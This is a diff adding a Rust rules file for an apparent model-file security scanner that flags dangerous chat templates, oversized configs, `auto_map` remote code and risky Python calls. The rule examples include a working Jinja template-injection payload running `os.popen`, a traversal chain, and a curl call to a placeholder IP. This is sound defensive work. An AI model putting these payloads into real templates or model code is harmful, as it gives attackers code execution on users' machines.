@@ -1,0 +1,65 @@
+//! Rules of configs, chat templates and remote code (`CFG`).
+
+use probity_report::{Rule, Severity};
+
+pub static CFG001: Rule = Rule {
+    id: "CFG001",
+    severity: Severity::Critical,
+    title: "Template reaches Python internals and code execution",
+    what: "A Jinja template (a chat template in `tokenizer_config.json` or GGUF metadata, a standalone template, a template string in a config) walks from an ordinary object to Python internals (`__class__`, `__mro__`, `__subclasses__`, `__globals__`, `__builtins__`, ...) and names a way to act: a process, code, import, file or network callable or module (`os`, `system`, `popen`, `eval`, `__import__`, `open`, `urlopen`, ...), or calls an object fetched from the class hierarchy. String escapes and concatenated constants are resolved first; a template that does not parse is judged region by region.",
+    why: "Loaders render chat templates with Jinja; an engine that is not sandboxed (llama-cpp-python before 0.2.72, custom pipelines) runs the payload on the first chat request. Ordinary chat templates never touch a dunder attribute.",
+    example: "`{{ cycler.__init__.__globals__.os.popen('id').read() }}` as `chat_template`.",
+    references: &["CVE-2024-34359", "CWE-1336"],
+};
+
+pub static CFG002: Rule = Rule {
+    id: "CFG002",
+    severity: Severity::Warning,
+    title: "Template traverses Python object internals",
+    what: "A Jinja template reaches dunder attributes (`__class__`, `__mro__`, `__subclasses__`, `__globals__`, ...) or computes an attribute name at render time (`|attr(x)` with a non-constant `x`), without naming a way to act that Probity recognises.",
+    why: "Object traversal is the first half of every template-injection payload and has no use in a chat template; the second half may be hidden in ways a static reading cannot resolve (names built with `chr()`, values from the context).",
+    example: "`{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1)|attr('__subclasses__')() }}`.",
+    references: &["CWE-1336"],
+};
+
+pub static CFG003: Rule = Rule {
+    id: "CFG003",
+    severity: Severity::Info,
+    title: "Template does not parse",
+    what: "A Jinja template string in a JSON config is rejected by minijinja's lexer or parser (an unterminated string or block, syntax minijinja does not share with Python's Jinja). A template the lexer rejects is judged region by region; this finding says only that it does not parse.",
+    why: "A loader may refuse to render it, so the model's chat formatting may be broken; a broken template is also a place where scanners that give up can be fooled.",
+    example: "`{\"chat_template\": \"{{ unclosed_bracket\"}`.",
+    references: &[],
+};
+
+pub static CFG004: Rule = Rule {
+    id: "CFG004",
+    severity: Severity::Warning,
+    title: "Text document or template too large to inspect",
+    what: "A JSON, YAML or template document is larger than the text limit (`MAX_TEXT_DOCUMENT` in src/limits.rs), or one template in it is larger than `MAX_TEMPLATE`, so it was not inspected.",
+    why: "Configs, tokenizer files and chat templates are small; something larger cannot be called clean, and padding is a way to push a payload past a scanner's limits.",
+    example: "A 300 MB `tokenizer_config.json`.",
+    references: &[],
+};
+
+pub static CFG005: Rule = Rule {
+    id: "CFG005",
+    severity: Severity::Warning,
+    title: "Config loads custom code (auto_map)",
+    what: "A Hugging Face `config.json` or `tokenizer_config.json` has an `auto_map`: loading the model with `trust_remote_code=True` imports and runs the Python modules it names (listed in the evidence, with the repository when the code lives in another one).",
+    why: "Remote code runs with the loader's privileges before any weight is read; it must be reviewed like any dependency. Probity scans the `.py` files it finds (CFG006), but code in another repository is not here to scan.",
+    example: "`\"auto_map\": {\"AutoModelForCausalLM\": \"modeling_x.XForCausalLM\"}`.",
+    references: &["CWE-829"],
+};
+
+pub static CFG006: Rule = Rule {
+    id: "CFG006",
+    severity: Severity::Critical,
+    title: "Python code shipped with the model runs dangerous calls",
+    what: "A Python file (remote code for `trust_remote_code`, a custom pipeline, a script beside the weights) calls process execution (`os.system`, `subprocess.*`), code evaluation or loading (`eval`, `exec`, `compile`, `__import__`, `marshal.loads`, `pickle.loads`, `ctypes`), network access (`socket`, `urllib.request`, `requests`, `httpx`), or writes or deletes files by absolute or home paths. Calls are resolved through the file's imports and aliases; code decoded from base64, hex or compression on its way into `exec`/`eval` is noted.",
+    why: "Transformers imports remote code when the model is loaded; these calls run then, with the user's credentials, on the training or serving machine. Ordinary modeling code does none of them.",
+    example: "`modeling_x.py` with `import subprocess as sp` and `sp.run(['curl', 'http://203.0.113.7/x'])` at module level.",
+    references: &["CWE-94", "CWE-829"],
+};
+
+pub static RULES: &[&Rule] = &[&CFG001, &CFG002, &CFG003, &CFG004, &CFG005, &CFG006];
